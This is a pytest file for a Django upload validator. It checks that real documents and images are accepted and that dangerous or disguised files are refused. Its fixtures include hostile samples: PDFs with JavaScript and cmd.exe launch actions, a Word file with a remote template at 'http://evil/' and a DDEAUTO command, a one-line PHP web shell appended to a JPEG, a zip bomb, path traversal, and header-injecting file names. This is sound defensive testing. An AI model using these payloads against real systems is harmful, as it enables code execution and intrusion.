"""上传: a file is what its content is; what is dangerous or lies is refused with a sentence."""

from __future__ import annotations

from collections.abc import Callable
from io import BytesIO
from pathlib import Path
from zipfile import ZIP_DEFLATED, ZipFile

import pikepdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from pikepdf import Array, Dictionary, Name
from PIL import Image

from yichuang.faces.common.storage import serve_file
from yichuang.faces.common.uploads import Accepted, Slot, UploadRefused, accept, clean_name, sentence
from yichuang.records.filestore import FileStore

WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


@pytest.fixture
def files(tmp_path: Path) -> FileStore:
    return FileStore(tmp_path)


def pdf(change: Callable[[pikepdf.Pdf], None] = lambda _pdf: None, **save: object) -> bytes:
    out, made = BytesIO(), pikepdf.new()
    made.add_blank_page()
    change(made)
    made.save(out, **save)
    return out.getvalue()


def picture(form: str = "JPEG", size: tuple[int, int] = (40, 20), **save: object) -> bytes:
    out = BytesIO()
    Image.new("RGB", size, "white").save(out, form, **save)
    return out.getvalue()


def container(parts: dict[str, bytes | str], types: str = WORD) -> bytes:
    out = BytesIO()
    with ZipFile(out, "w", ZIP_DEFLATED) as archive:
        for name, body in ({"[Content_Types].xml": types} | parts).items():
            archive.writestr(name, body)
    return out.getvalue()


def script(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = Dictionary(S=Name.JavaScript, JS="app.alert(1)")


def launch(made: pikepdf.Pdf) -> None:
    made.pages[0].Annots = Array([Dictionary(Type=Name.Annot, A=Dictionary(S=Name.Launch, F="cmd.exe"))])


def attach(made: pikepdf.Pdf) -> None:
    made.attachments["x.exe"] = b"MZ"


def lock(made: pikepdf.Pdf) -> None:
    made.docinfo["/Title"] = "locked"


GOOD = {
    "申请书.pdf": pdf(),
    "照片.JPG": picture(),
    "截图.png": picture("PNG"),
    "报告.docx": container({"word/document.xml": "<w:document/>"}),
    "表.xlsx": container({"xl/workbook.xml": "<x/>"}, WORD.replace("wordprocessingml.document", "spreadsheetml.sheet")),
    "证.ofd": container({"OFD.xml": "<ofd/>"}),
}
BAD = {
    "empty": ("空.pdf", b""),
    "lying": ("程序.pdf", b"MZ\x90\x00" + b"\0" * 100),
    "lying ": ("网页.jpg", b"<html><script>alert(1)</script>"),
    "lying  ": ("图.pdf", picture()),
    "not_allowed": ("图.dwg", b"AC1032" + b"\0" * 100),
    "not_allowed ": ("压缩.zip", container({"a.txt": "x"}, "")),
    "encrypted": ("密.pdf", pdf(lock, encryption=pikepdf.Encryption(owner="a", user="b"))),
    "encrypted ": ("限.pdf", pdf(lock, encryption=pikepdf.Encryption(owner="a", user=""))),
    "active": ("脚本.pdf", pdf(script)),
    "active ": ("启动.pdf", pdf(launch)),
    "active  ": ("夹带.pdf", pdf(attach)),
    "active   ": ("宏.docx", container({"word/document.xml": "", "word/vbaProject.bin": b"x"})),
    "active    ": (
        "远程模板.docx",
        container(
            {
                "word/_rels/settings.xml.rels": '<Relationship Id="a" Type="http://x/attachedTemplate" '
                'Target="http://evil/" TargetMode="External"/>'
            }
        ),
    ),
    "active     ": ("域.docx", container({"word/document.xml": "<w:instrText>DDEAUTO cmd</w:instrText>"})),
    "bomb": ("炸.docx", container({"word/document.xml": b"0" * 40_000_000})),
    "broken": ("坏.pdf", b"%PDF-1.7\n" + b"\xff" * 200),
    "broken ": ("坏.jpg", picture()[:200]),
    "broken  ": ("出走.docx", container({"../../etc/passwd": "x"})),
    "too_many_pixels": ("巨.png", picture("PNG", (8000, 5001))),
}


def take(name: str, content: bytes, files: FileStore, slot: Slot | None = None) -> Accepted:
    upload = SimpleUploadedFile("x", content)
    upload._name = name  # as a browser that sends no clean name
    return accept(upload, slot, files=files)


@pytest.mark.parametrize("name", GOOD)
def test_it_works(name: str, files: FileStore) -> None:
    taken = take(name, GOOD[name], files)
    assert files.intact(taken.digest)
    assert (taken.name, taken.size) == (name, len(files.read(taken.digest)))


@pytest.mark.parametrize("code", BAD)
def test_it_is_refused_with_a_sentence(code: str, files: FileStore) -> None:
    name, content = BAD[code]
    with pytest.raises(UploadRefused) as refused:
        take(name, content, files)
    assert refused.value.code == code.strip()
    assert name in sentence(refused.value)
    assert "{" not in sentence(refused.value)
    assert not [p for p in files.root.rglob("*") if p.is_file()]


def test_a_slot_has_its_own_list_and_limit(files: FileStore) -> None:
    with pytest.raises(UploadRefused, match="not_allowed"):
        take("图.png", picture("PNG"), files, Slot(("pdf",)))
    with pytest.raises(UploadRefused) as refused:
        take("大.pdf", GOOD["申请书.pdf"] + b"\n" * 2_000_000, files, Slot(max_bytes=1024 * 1024))
    assert "超过 1 MB" in sentence(refused.value)


def test_a_photograph_is_turned_upright_and_loses_its_place(files: FileStore) -> None:
    exif = Image.Exif()
    exif[0x0112], exif[0x010F] = 6, "camera"
    taken = take("照.jpg", picture(exif=exif), files)
    with Image.open(BytesIO(files.read(taken.digest))) as upright:
        assert upright.size == (20, 40)
        assert not upright.getexif()


def test_what_hangs_behind_a_picture_is_gone(files: FileStore) -> None:
    taken = take("两面.jpg", picture() + b"<?php system($_GET[0]); ?>" + container({"a": "b"}), files)
    assert b"php" not in files.read(taken.digest)


def test_words_that_only_look_active_are_no_reason(files: FileStore) -> None:
    def title(made: pikepdf.Pdf) -> None:
        made.docinfo["/Title"] = "what /JS and /Launch mean"

    assert take("讲义.pdf", pdf(title), files)


@pytest.mark.parametrize(
    ("name", "clean"),
    [
        ("../../etc/passwd", "passwd"),
        ("C:\\fakepath\\图.jpg", "图.jpg"),
        ("a\u202egpj.exe", "agpj.exe"),
        ("a\r\nSet-Cookie: x.pdf", "aSet-Cookie x.pdf"),
        ("CON.pdf", "_CON.pdf"),
        (" . ", "文件"),
        ("长" * 300 + ".pdf", "长" * 116 + ".pdf"),
    ],
)
def test_a_name_is_only_a_name(name: str, clean: str) -> None:
    assert clean_name(name) == clean


def test_it_is_handed_out_as_an_attachment_only(files: FileStore) -> None:
    taken = take("申请书.pdf", GOOD["申请书.pdf"], files)
    response = serve_file(taken.digest, taken.name, taken.media_type, files=files)
    assert response["Content-Disposition"].startswith("attachment")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response["Content-Security-Policy"]
    assert b"".join(response.streaming_content) == files.read(taken.digest)


@pytest.mark.parametrize("action", ["GoToR", "GoToE", "SubmitForm", "ImportData"])
def test_a_pdf_that_reaches_out_is_refused(action: str, files: FileStore) -> None:
    def reach(made: pikepdf.Pdf) -> None:
        made.Root.OpenAction = Dictionary(S=Name(f"/{action}"), F="http://example.invalid/")

    with pytest.raises(UploadRefused) as refused:
        take("外联.pdf", pdf(reach), files)
    assert refused.value.code == "active"
